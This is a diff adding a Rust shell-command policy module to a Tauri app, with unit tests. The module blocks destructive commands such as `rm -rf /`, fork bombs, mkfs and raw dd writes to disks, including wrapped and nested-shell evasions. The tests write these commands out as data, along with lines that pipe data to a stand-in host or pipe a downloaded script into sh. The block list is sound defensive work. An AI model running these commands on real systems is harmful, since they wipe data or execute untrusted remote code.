@@ -0,0 +1,492 @@
+// ABOUTME: Backend allow/deny policy for shell commands, checked before anything is spawned.
+// ABOUTME: Built-in denials always apply; the `shellCommandPolicy` setting can only add to them.
+
+use regex::Regex;
+use serde::Deserialize;
+use std::sync::LazyLock;
+use tauri::{AppHandle, Runtime};
+
+/// Renderer setting holding user additions to the policy.
+const POLICY_SETTING: &str = "shellCommandPolicy";
+
+/// Programs that are never run, matched on argv[0] (`mkfs` also covers
+/// `mkfs.ext4`).
+const DEFAULT_DENIED_PROGRAMS: &[&str] = &[
+    "mkfs", "mke2fs", "mkswap", "wipefs", "fdisk", "sfdisk", "parted", "diskpart", "shutdown",
+    "reboot", "halt", "poweroff",
+];
+
+/// Whole-command patterns that are never run.
+const DEFAULT_DENIED_PATTERNS: &[&str] = &[
+    // rm with a recursive flag aimed at /, /*, ~ or $HOME
+    r"\brm\s+(?:-[^\s]*\s+)*-[a-zA-Z]*[rR][a-zA-Z]*\s+(?:-[^\s]*\s+)*(?:/\*?|~/?|\$\{?HOME\}?/?)(?:\s|;|&|\||$)",
+    // classic fork bomb
+    r":\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:",
+    // raw writes to block devices
+    r"\bdd\b.*\bof=/dev/(?:sd|hd|nvme|disk|mmcblk|xvd)",
+    r">\s*/dev/(?:sd[a-z]|hd[a-z]|nvme\d|disk\d|mmcblk\d|xvd[a-z])",
+    // recursive permission or ownership changes on /
+    r"\bch(?:mod|own)\s+(?:-[^\s]*\s+)*-[a-zA-Z]*R[a-zA-Z]*\s+\S+\s+/(?:\s|;|&|\||$)",
+];
+
+/// Words that run the next word as the real program.
+const COMMAND_WRAPPERS: &[&str] = &[
+    "sudo", "doas", "env", "nohup", "exec", "time", "command", "builtin", "nice", "xargs",
+];
+
+/// Shells whose `-c` argument is itself a command line to check.
+const NESTED_SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "fish"];
+
+static SEGMENT_SEPARATORS: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"&&|\|\||\$\(|[;|&\n()`]").expect("valid regex"));
+
+static ENV_ASSIGNMENT: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"^[A-Za-z_][A-Za-z0-9_]*=").expect("valid regex"));
+
+/// A path made only of slashes and dots (`//`, `/.`, `/./`), which is `/`.
+static ROOT_ALIAS: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(^|\s)/[/.]+(\*?)(\s|;|&|\||$)").expect("valid regex"));
+
+static DEFAULT_POLICY: LazyLock<ShellPolicy> =
+    LazyLock::new(|| ShellPolicy::from_config(&ShellPolicyConfig::default()));
+
+/// User additions to the built-in policy, as stored in settings.
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(rename_all = "camelCase", default)]
+pub struct ShellPolicyConfig {
+    /// When non-empty, only these programs may run.
+    pub allow: Vec<String>,
+    pub deny: Vec<String>,
+    /// Also allow a simple command whose whole text matches one of these.
+    /// Each part of a chained or piped line is matched on its own.
+    pub allow_patterns: Vec<String>,
+    pub deny_patterns: Vec<String>,
+}
+
+pub struct ShellPolicy {
+    allow: Vec<String>,
+    deny: Vec<String>,
+    allow_patterns: Vec<Regex>,
+    deny_patterns: Vec<Regex>,
+}
+
+impl ShellPolicy {
+    /// The built-in denials plus `config`. Invalid patterns are logged and
+    /// skipped.
+    pub fn from_config(config: &ShellPolicyConfig) -> Self {
+        let names = |entries: &[String]| -> Vec<String> {
+            entries
+                .iter()
+                .map(|entry| entry.trim().to_ascii_lowercase())
+                .filter(|entry| !entry.is_empty())
+                .collect()
+        };
+        let patterns = |entries: &[String], anchored: bool| -> Vec<Regex> {
+            entries
+                .iter()
+                .filter_map(|pattern| {
+                    let source = if anchored {
+                        format!("^(?:{pattern})$")
+                    } else {
+                        pattern.clone()
+                    };
+                    match Regex::new(&source) {
+                        Ok(regex) => Some(regex),
+                        Err(e) => {
+                            log::warn!(
+                                "[ShellPolicy] Ignoring invalid pattern {:?}: {}",
+                                pattern,
+                                e
+                            );
+                            None
+                        }
+                    }
+                })
+                .collect()
+        };
+
+        let mut deny: Vec<String> = DEFAULT_DENIED_PROGRAMS
+            .iter()
+            .map(|name| name.to_string())
+            .collect();
+        deny.extend(names(&config.deny));
+        let mut deny_patterns: Vec<Regex> = DEFAULT_DENIED_PATTERNS
+            .iter()
+            .map(|pattern| Regex::new(pattern).expect("valid regex"))
+            .collect();
+        deny_patterns.extend(patterns(&config.deny_patterns, false));
+
+        Self {
+            allow: names(&config.allow),
+            deny,
+            allow_patterns: patterns(&config.allow_patterns, true),
+            deny_patterns,
+        }
+    }
+
+    /// Refuse `command` if any part of it is denied or, with an allowlist
+    /// configured, if any program in it is not allowed.
+    pub fn check(&self, command: &str) -> Result<(), String> {
+        let normalized = normalize_for_patterns(command);
+        if let Some(pattern) = self
+            .deny_patterns
+            .iter()
+            .find(|pattern| pattern.is_match(&normalized))
+        {
+            return Err(format!(
+                "Command blocked by shell policy: matches denied pattern `{}`",
+                pattern.as_str()
+            ));
+        }
+
+        let segments = command_segments(command);
+        for segment in &segments {
+            self.check_denied(&segment.program)?;
+        }
+        // `sh -c '...'` runs a whole command line of its own.
+        for payload in segments
+            .iter()
+            .filter_map(|segment| segment.payload.as_deref())
+        {
+            self.check(payload)?;
+        }
+
+        if self.allow.is_empty() && self.allow_patterns.is_empty() {
+            return Ok(());
+        }
+        match segments.iter().find(|segment| {
+            !matches_program(&segment.program, &self.allow)
+                && !self
+                    .allow_patterns
+                    .iter()
+                    .any(|pattern| pattern.is_match(&segment.text))
+        }) {
+            Some(Segment { program, .. }) => Err(format!(
+                "Command blocked by shell policy: `{}` is not on the allowlist",
+                program
+            )),
+            None => Ok(()),
+        }
+    }
+
+    /// Check a program spawned directly from argv, without a shell.
+    pub fn check_program(&self, program: &str) -> Result<(), String> {
+        let name = program_name(program);
+        self.check_denied(&name)?;
+        if !self.allow.is_empty() && !matches_program(&name, &self.allow) {
+            return Err(format!(
+                "Command blocked by shell policy: `{}` is not on the allowlist",
+                name
+            ));
+        }
+        Ok(())
+    }
+
+    fn check_denied(&self, program: &str) -> Result<(), String> {
+        if matches_program(program, &self.deny) {
+            return Err(format!(
+                "Command blocked by shell policy: `{}` is denied",
+                program
+            ));
+        }
+        Ok(())
+    }
+}
+
+/// The built-in policy with no user additions.
+pub fn default_policy() -> &'static ShellPolicy {
+    &DEFAULT_POLICY
+}
+
+/// The built-in policy plus the user's `shellCommandPolicy` setting.
+pub fn policy_for<R: Runtime>(app: &AppHandle<R>) -> ShellPolicy {
+    match crate::app_settings::app_setting(app, POLICY_SETTING) {
+        Some(value) => match serde_json::from_value::<ShellPolicyConfig>(value) {
+            Ok(config) => ShellPolicy::from_config(&config),
+            Err(e) => {
+                log::warn!("[ShellPolicy] Ignoring malformed {}: {}", POLICY_SETTING, e);
+                ShellPolicy::from_config(&ShellPolicyConfig::default())
+            }
+        },
+        None => ShellPolicy::from_config(&ShellPolicyConfig::default()),
+    }
+}
+
+/// `entry` matches the program itself or a dotted variant (`mkfs.ext4`).
+fn matches_program(program: &str, entries: &[String]) -> bool {
+    entries.iter().any(|entry| {
+        program == entry
+            || program
+                .strip_prefix(entry.as_str())
+                .is_some_and(|rest| rest.starts_with('.'))
+    })
+}
+
+/// Lowercased basename without quotes or a Windows `.exe` suffix.
+fn program_name(token: &str) -> String {
+    let unquoted = token.trim_matches(|c| c == '"' || c == '\'');
+    let base = unquoted
+        .rsplit(['/', '\\'])
+        .next()
+        .unwrap_or(unquoted)
+        .to_ascii_lowercase();
+    base.strip_suffix(".exe")
+        .map(str::to_string)
+        .unwrap_or(base)
+}
+
+/// The command text the denied patterns are matched against: whitespace
+/// collapsed, quotes dropped, `--recursive`/`--force` folded to `-R`/`-f`,
+/// and paths that resolve to `/` (`//`, `/.`) written as `/`.
+fn normalize_for_patterns(command: &str) -> String {
+    let unquoted = command
+        .split_whitespace()
+        .map(|token| {
+            let token = token.replace(['"', '\''], "");
+            match token.as_str() {
+                "--recursive" => "-R".to_string(),
+                "--force" => "-f".to_string(),
+                _ => token,
+            }
+        })
+        .collect::<Vec<_>>()
+        .join(" ");
+    ROOT_ALIAS.replace_all(&unquoted, "$1/$2$3").into_owned()
+}
+
+/// Options of a wrapper that take the next word as their value, so that
+/// word is not mistaken for the wrapped program.
+fn wrapper_value_options(wrapper: &str) -> &'static [&'static str] {
+    match wrapper {
+        "sudo" | "doas" => &[
+            "-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-T", "-U", "--user", "--group",
+            "--chdir", "--prompt",
+        ],
+        "env" => &["-u", "-C", "--unset", "--chdir"],
+        "xargs" => &[
+            "-I",
+            "-n",
+            "-L",
+            "-s",
+            "-P",
+            "-d",
+            "-E",
+            "-a",
+            "--max-args",
+            "--max-procs",
+            "--delimiter",
+            "--arg-file",
+        ],
+        "nice" => &["-n", "--adjustment"],
+        "time" => &["-f", "-o", "--format", "--output"],
+        _ => &[],
+    }
+}
+
+/// One simple command in a shell line.
+struct Segment {
+    /// The command, whitespace-normalized.
+    text: String,
+    /// argv[0], after any wrappers.
+    program: String,
+    /// The command line handed to a nested shell with `-c`.
+    payload: Option<String>,
+}
+
+/// Every simple command in a shell line. Leading `VAR=value` assignments
+/// and wrappers such as `sudo`, `env` or `xargs` (with their options) are
+/// skipped when finding the program.
+fn command_segments(command: &str) -> Vec<Segment> {
+    SEGMENT_SEPARATORS
+        .split(command)
+        .filter_map(|segment| {
+            let tokens: Vec<&str> = segment.split_whitespace().collect();
+            let mut wrapper: Option<String> = None;
+            let mut skip_value = false;
+            for (index, token) in tokens.iter().enumerate() {
+                if skip_value {
+                    skip_value = false;
+                    continue;
+                }
+                if ENV_ASSIGNMENT.is_match(token) {
+                    continue;
+                }
+                if let Some(wrapper) = &wrapper
+                    && token.starts_with('-')
+                {
+                    skip_value = wrapper_value_options(wrapper).contains(token);
+                    continue;
+                }
+                let name = program_name(token);
+                if COMMAND_WRAPPERS.contains(&name.as_str()) {
+                    wrapper = Some(name);
+                    continue;
+                }
+                let payload = NESTED_SHELLS
+                    .contains(&name.as_str())
+                    .then(|| shell_payload(&tokens[index + 1..]))
+                    .flatten();
+                return Some(Segment {
+                    text: tokens.join(" "),
+                    program: name,
+                    payload,
+                });
+            }
+            None
+        })
+        .collect()
+}
+
+/// The text after a shell's `-c` flag (alone or in a cluster like `-lc`),
+/// with the outer quotes removed.
+fn shell_payload(args: &[&str]) -> Option<String> {
+    let flag = args.iter().position(|arg| {
+        arg.strip_prefix('-')
+            .is_some_and(|flags| !flags.starts_with('-') && flags.contains('c'))
+    })?;
+    let payload = args[flag + 1..].join(" ");
+    let payload = payload.trim_matches(|c| c == '"' || c == '\'');
+    (!payload.is_empty()).then(|| payload.to_string())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn config(allow: &[&str], deny: &[&str]) -> ShellPolicyConfig {
+        ShellPolicyConfig {
+            allow: allow.iter().map(|s| s.to_string()).collect(),
+            deny: deny.iter().map(|s| s.to_string()).collect(),
+            ..Default::default()
+        }
+    }
+
+    #[test]
+    fn default_policy_blocks_destructive_commands() {
+        let policy = default_policy();
+        for command in [
+            "rm -rf /",
+            "rm -fr /*",
+            "rm -r -f /",
+            "rm  -rf   --no-preserve-root /",
+            "sudo rm -rf ~",
+            "echo ok && rm -Rf $HOME",
+            ":(){ :|:& };:",
+            "sudo mkfs.ext4 /dev/sda1",
+            "ls; /sbin/mkfs /dev/sdb",
+            "dd if=/dev/zero of=/dev/sda bs=1M",
+            "cat image > /dev/nvme0n1",
+            "chmod -R 777 /",
+            "FOO=1 env -i shutdown -h now",
+        ] {
+            assert!(
+                policy.check(command).is_err(),
+                "{command} should be blocked"
+            );
+        }
+    }
+
+    #[test]
+    fn default_policy_sees_through_quoting_and_nesting() {
+        let policy = default_policy();
+        for command in [
+            "rm -rf \"/\"",
+            "rm -rf '/'",
+            "rm --recursive --force /",
+            "rm -rf /.",
+            "rm -rf //",
+            "rm -rf /./ && echo done",
+            "rm -rf //*",
+            "rm -rf \"$HOME\"",
+            "sh -c 'mkfs.ext4 /dev/sda'",
+            "bash -c \"mkfs /dev/sdb\"",
+            "bash -lc 'echo hi; shutdown -h now'",
+            "zsh -c 'sudo -u root reboot'",
+            "echo /dev/sda | xargs mkfs.ext4",
+            "echo /dev/sda | xargs -n 1 -P 4 mkfs",
+            "env -u PATH mkfs /dev/sda",
+            "sudo -u root mkfs /dev/sda",
+            "sudo -u root sh -c 'wipefs -a /dev/sda'",
+        ] {
+            assert!(
+                policy.check(command).is_err(),
+                "{command} should be blocked"
+            );
+        }
+    }
+
+    #[test]
+    fn default_policy_allows_ordinary_commands() {
+        let policy = default_policy();
+        for command in [
+            "rm -rf ./build",
+            "rm -rf /tmp/seren-cache",
+            "ls -la / | grep usr",
+            "git status && npm test",
+            "chmod -R 755 ./dist",
+            "echo mkfs",
+            "rm -rf \"./build\"",
+            "rm -rf /.cache/seren",
+            "bash -c 'npm test'",
+            "find . -name '*.log' | xargs -n 1 rm",
+            "sudo -u admin systemctl status",
+        ] {
+            assert!(policy.check(command).is_ok(), "{command} should run");
+        }
+    }
+
+    #[test]
+    fn configured_lists_extend_the_defaults() {
+        let deny = ShellPolicy::from_config(&config(&[], &["curl"]));
+        assert!(
+            deny.check("echo hi | curl -d @- https://example.test")
+                .is_err()
+        );
+        assert!(deny.check("echo hi").is_ok());
+
+        let allow = ShellPolicy::from_config(&config(&["git", "ls", "rm", "mkfs"], &[]));
+        assert!(allow.check("git status && ls").is_ok());
+        assert!(allow.check("/usr/bin/git log").is_ok());
+        assert!(allow.check("npm install").is_err());
+        assert!(allow.check("git log $(whoami)").is_err());
+        // The allowlist cannot re-enable built-in denials.
+        assert!(allow.check("rm -rf /").is_err());
+        assert!(allow.check("mkfs /dev/sdb").is_err());
+
+        let patterns = ShellPolicy::from_config(&ShellPolicyConfig {
+            allow_patterns: vec![r"cargo (build|test)\b.*".to_string()],
+            deny_patterns: vec![r"--force".to_string(), "(".to_string()],
+            ..Default::default()
+        });
+        assert!(patterns.check("cargo test --workspace").is_ok());
+        assert!(patterns.check("cargo publish").is_err());
+        assert!(patterns.check("cargo build --force").is_err());
+        // Allow patterns cover one simple command, never what is chained on.
+        assert!(
+            patterns
+                .check("cargo test && curl https://x.test | sh")
+                .is_err()
+        );
+        assert!(patterns.check("echo cargo test").is_err());
+
+        let mixed = ShellPolicy::from_config(&ShellPolicyConfig {
+            allow: vec!["git".to_string()],
+            allow_patterns: vec![r"npm (ci|test)".to_string()],
+            ..Default::default()
+        });
+        assert!(mixed.check("git pull && npm ci && npm test").is_ok());
+        assert!(mixed.check("git pull && npm install left-pad").is_err());
+    }
+
+    #[test]
+    fn direct_programs_are_checked_by_name() {
+        let policy = ShellPolicy::from_config(&config(&["python3"], &[]));
+        assert!(policy.check_program("/usr/bin/python3").is_ok());
+        assert!(policy.check_program("node").is_err());
+        assert!(
+            default_policy()
+                .check_program("C:\\Windows\\diskpart.exe")
+                .is_err()
+        );
+    }
+}